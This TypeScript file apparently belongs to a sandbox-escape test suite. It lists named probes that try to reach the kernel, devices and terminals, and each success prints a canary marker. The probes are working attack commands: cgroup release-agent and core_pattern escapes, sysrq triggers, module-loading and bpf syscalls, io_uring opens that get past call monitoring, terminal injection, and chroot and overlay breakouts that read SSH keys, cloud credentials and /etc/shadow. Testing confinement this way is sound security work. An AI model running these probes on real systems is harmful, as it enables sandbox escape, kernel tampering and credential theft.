import { inC, python, type EscapeTheme } from './attempt.ts';

const WON = 'printf "canary-%s\\n" 7f3a91c2';

const interfacesAndDevices: EscapeTheme = ({ key, home, mark, victim }) => ({
  'read the memory of the kernel and its log': `head -c1 /dev/mem /dev/kmem /dev/port /proc/kcore >/dev/null 2>&1 && ${WON}; dmesg 2>/dev/null | grep -q . && [ "$(cat /proc/sys/kernel/dmesg_restrict)" = 1 ] && ${WON}; head -c1 /dev/kmsg /proc/kmsg 2>/dev/null | grep -q . && ${WON}`,
  'write to settings of the kernel': `for f in $(find /proc/sys /proc/irq /proc/fs /proc/bus -xdev -maxdepth 4 -type f -writable 2>/dev/null | head -300) /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /proc/sys/vm/overcommit_memory /proc/sys/fs/binfmt_misc/register /proc/sys/net/ipv4/ip_forward; do v=$(cat "$f" 2>/dev/null); (printf "%s" "$v" > "$f") 2>/dev/null && ${WON} && echo "$f"; done`,
  'have a core dump handled on the host': `(echo '|/bin/touch ${mark}' > /proc/sys/kernel/core_pattern) 2>/dev/null && ${WON}; ulimit -c unlimited; sh -c 'kill -SEGV $$'; true`,
  'write to /sys, control groups and the parameters of modules': `for f in $(find /sys -maxdepth 5 -type f -writable 2>/dev/null | head -200) /sys/kernel/uevent_helper /sys/kernel/profiling /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/release_agent /sys/module/*/parameters/*; do v=$(cat "$f" 2>/dev/null); (printf "%s" "$v" > "$f") 2>/dev/null && ${WON} && echo "$f"; done; mkdir /sys/fs/cgroup/hermes 2>/dev/null && ${WON}; mkdir -p cg; mount -t cgroup2 none cg 2>/dev/null && ${WON}; mount -t cgroup -o rdma none cg 2>/dev/null && ${WON}; true`,
  'a control group in a namespace of its own, with an agent of release': `unshare -UrmC sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && echo "touch ${mark}" > /tmp/cg/release_agent && ${WON}; mount -t cgroup2 none /tmp/cg && mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/cgroup.procs && ${WON}' 2>/dev/null | grep canary`,
  'press the magic key': `(echo b > /proc/sysrq-trigger) 2>/dev/null && ${WON}; (echo 0 > /proc/sys/kernel/sysrq) 2>/dev/null && ${WON}; true`,
  'load a module or another kernel':
    inC(`for n,args in ((175,(b"x",1,b"")),(313,(0,b"",0)),(246,(0,0,0,0)),(320,(0,0,0,b"",0)),(169,(0xfee1dead,672274793,0,0)),(170,(b"x",1)),(171,(b"x",1)),(163,(b"/x",)),(167,(b"/x",0))):
  r=c.syscall(n,*args); won(n) if r==0 else print(n,os.strerror(ctypes.get_errno()))`),
  'set the clock': inC(`t=struct.pack("qq",0,0)
for n,args in ((164,(t,None)),(227,(0,t))):
  r=c.syscall(n,*args); won(n) if r==0 else print(n,os.strerror(ctypes.get_errno()))`),
  'programs in the kernel, by bpf': inC(`attr=ctypes.create_string_buffer(128)
struct.pack_into("IIII",attr,0,2,4,4,1)
for kind,cmd in (("a map",0),("the list of programs",11),("the list of maps",12)):
  b=ctypes.create_string_buffer(bytes(attr.raw) if cmd==0 else b"\\0"*128,128)
  r=c.syscall(321,cmd,b,128); won(kind) if cmd!=0 and r>=0 else print(kind,r,os.strerror(ctypes.get_errno()))
prog=ctypes.create_string_buffer(struct.pack("BBhi",0xb7,0,0,0)+struct.pack("BBhi",0x95,0,0,0))
a=ctypes.create_string_buffer(128); lic=ctypes.create_string_buffer(b"GPL")
for t in (2,5,13):
  struct.pack_into("IIQQ",a,0,t,2,ctypes.addressof(prog),ctypes.addressof(lic)); r=c.syscall(321,5,a,128); won("a tracing program") if r>=0 else print(t,os.strerror(ctypes.get_errno()))`),
  'watch the host by perf': inC(`a=ctypes.create_string_buffer(128)
struct.pack_into("IIQ",a,0,1,128,0)
for pid,cpu in ((-1,0),(${victim()},-1),(1,-1)):
  r=c.syscall(298,a,pid,cpu,-1,0); won((pid,cpu)) if r>=0 and pid!=1 else print(pid,os.strerror(ctypes.get_errno()))`),
  'hold pages of the kernel by userfaultfd': inC(
    `r=c.syscall(323,0); print(r,os.strerror(ctypes.get_errno())); won("faults of the kernel are ours") if r>=0 and open("/proc/sys/vm/unprivileged_userfaultfd").read().strip()=="0" else None`,
  ),
  'open and connect by io_uring, past whoever watches calls': inC(`p=ctypes.create_string_buffer(120)
r=c.syscall(425,4,p); print("io_uring",r,os.strerror(ctypes.get_errno()))
if r>=0:
  import mmap
  f=struct.unpack_from("10I",p,40); g=struct.unpack_from("10I",p,80); ents=struct.unpack_from("II",p,0)
  sq=mmap.mmap(r,f[6]+ents[0]*4,offset=0); cq=mmap.mmap(r,g[5]+ents[1]*16,offset=0x8000000); sqe=mmap.mmap(r,ents[0]*64,offset=0x10000000)
  name=ctypes.create_string_buffer(b"${key}")
  struct.pack_into("BBHiQQIIQ",sqe,0,18,0,0,-100,0,ctypes.addressof(name),0,0,1)
  struct.pack_into("I",sq,f[6],0); struct.pack_into("I",sq,f[1],1)
  c.syscall(426,r,1,1,1,None,0); res=struct.unpack_from("Qi",cq,g[5])[1]; print("open",res)
  if res>=0: won("a file of the host was opened")`),
  'keys of the owner’s ring': {
    tries: inC(`for ring in (-3,-4,-5,-1,-2):
  got=c.syscall(250,11,ring,None,0); print(ring,got)
key=c.syscall(249,b"user",b"hermes-escape-${process.pid}",None,0,-4)
s=c.syscall(250,10,-4,b"user",b"hermes-canary-key",0)
if s>0: won("a key of the owner was found")
print(open("/proc/keys").read()[:200])`),
  },
  'make a device': `mknod disk b 254 0 2>/dev/null && ${WON}; mknod c c 1 3 2>/dev/null && echo x > c && ${WON}; mknod m c 1 1 2>/dev/null && head -c1 m && ${WON}; unshare -Ur mknod d c 1 1 2>/dev/null && ${WON}; true`,
  'open a disk, a tape, a video or a bus': `for d in /dev/vd* /dev/sd* /dev/nvme* /dev/loop* /dev/dm-* /dev/fuse /dev/kvm /dev/net/tun /dev/vhost* /dev/vsock /dev/input/* /dev/video* /dev/snd/* /dev/dri/* /dev/uinput /dev/hidraw* /dev/bus/usb/*/* /dev/mapper/* /dev/tpm* /dev/rtc*; do [ -e "$d" ] && (: < "$d") 2>/dev/null && ${WON} && echo "$d"; done; true`,
  'type into the terminal of the host': python(`import fcntl,termios,os,glob
for p in ["/dev/tty","/dev/console","/dev/tty1","/dev/tty0"]+glob.glob("/dev/pts/*"):
  for call,arg in ((termios.TIOCSTI,b"x"),(0x541C,b"\\x03"),(0x541C,b"\\x02")):
    try:
      fd=os.open(p,os.O_RDWR|os.O_NOCTTY); fcntl.ioctl(fd,call,arg); print("canary-"+"7f3a91c2",p)
    except OSError as e: print(p,e)`),
  'mount anything': `mkdir -p m; for t in tmpfs proc sysfs devpts devtmpfs overlay ext4 debugfs tracefs securityfs bpf mqueue nfs fuse binfmt_misc; do mount -t $t none m 2>/dev/null && ${WON} && echo $t; done; mount --bind / m 2>/dev/null && ${WON}; umount /etc/shadow ${home}/.ssh /proc /tmp 2>/dev/null && ${WON}; mount -o remount,rw / 2>/dev/null && ${WON}; true`,
  'mount by the new calls': inC(`fs=c.syscall(430,b"tmpfs",0); print(fs,os.strerror(ctypes.get_errno()))
t=c.syscall(428,-100,b"/",1|0x8000); print(t,os.strerror(ctypes.get_errno())); won("a tree was cloned") if t>=0 else None
a=ctypes.create_string_buffer(struct.pack("QQQQ",0,1,0,0)); r=c.syscall(442,-100,b"/usr",0x8000,a,32); won("attributes were changed") if r==0 else print(os.strerror(ctypes.get_errno()))`),
  'clone the tree below the covers in a namespace of its own': `unshare -Urm /usr/bin/python3 -I -c '
import ctypes,os
c=ctypes.CDLL(None,use_errno=True)
for flags in (1,1|0x8000):
  for p in (b"/",b"${home}",b"/etc",b"/usr"):
    t=c.syscall(428,-100,p,flags)
    if t<0: print(p,os.strerror(ctypes.get_errno())); continue
    for name in (".ssh/id_ed25519","${home}/.ssh/id_ed25519".lstrip("/"),"${key}".lstrip("/"),".aws/credentials",".config/gh/hosts.yml"):
      try: print(os.read(os.open(name,os.O_RDONLY,dir_fd=t),99))
      except OSError as e: pass'`,
  'lay a layer over a folder and read what is below': `unshare -Urm sh -c 'mkdir -p u w m; for l in ${home} ${home}/.config / /etc; do mount -t overlay overlay -o lowerdir=$l,upperdir=u,workdir=w,userxattr m && { cat m/.ssh/id_ed25519 m/gh/hosts.yml m${key}; grep -q . m/shadow && ${WON}; umount m; }; done' 2>/dev/null`,
  'leave its root': python(`import os
try:
  os.mkdir("j"); fd=os.open("/",os.O_RDONLY); os.chroot("j"); os.fchdir(fd); [os.chdir("..") for _ in range(99)]; os.chroot("."); print(open("${key}").read())
except OSError as e: print(e)`),
});

const rootsAndForeignCalls: EscapeTheme = ({ key, home }) => ({
  'leave its root as root of a namespace of its own': `unshare -Urm /usr/bin/python3 -I -c 'import os
os.makedirs("/tmp/j",exist_ok=True); fd=os.open("/",os.O_RDONLY); os.chroot("/tmp/j"); os.fchdir(fd)
for _ in range(99): os.chdir("..")
os.chroot(".")
try: print(open("${key}").read())
except OSError as e: print(e)'; unshare -Urm sh -c 'mkdir -p /tmp/n/old && mount --bind / /tmp/n && cd /tmp/n && pivot_root . tmp && cat tmp${key} /tmp${key}' 2>/dev/null`,
  'run a program from memory': inC(`fd=c.memfd_create(b"x",0); os.write(fd,open("/bin/cat","rb").read())
pid=os.fork()
if pid==0: os.execve(fd,["cat","${key}","${home}/.ssh/id_ed25519"],{})
os.waitpid(pid,0)`),
  'call the kernel as an older machine would': inC(`import mmap
code=b"\\xb8\\x05\\x00\\x00\\x00\\x31\\xc9\\x31\\xd2\\xcd\\x80\\xc3"
name=b"${key}\\0"
m=mmap.mmap(-1,4096,mmap.MAP_PRIVATE|mmap.MAP_ANONYMOUS|0x40,7)
m.write(b"\\x53\\xbb"+struct.pack("I",0)+code[:-1]+b"\\x5b\\xc3"); m.seek(2048); m.write(name)
addr=ctypes.addressof(ctypes.c_char.from_buffer(m)); struct.pack_into("I",m,2,(addr+2048)&0xffffffff)
r=ctypes.CFUNCTYPE(ctypes.c_int)(addr)(); won("a file of the host was opened") if r>=0 else print(r)`),
});

/** To reach the kernel, devices and terminals. */
export const kernel: EscapeTheme = (world) => ({ ...interfacesAndDevices(world), ...rootsAndForeignCalls(world) });
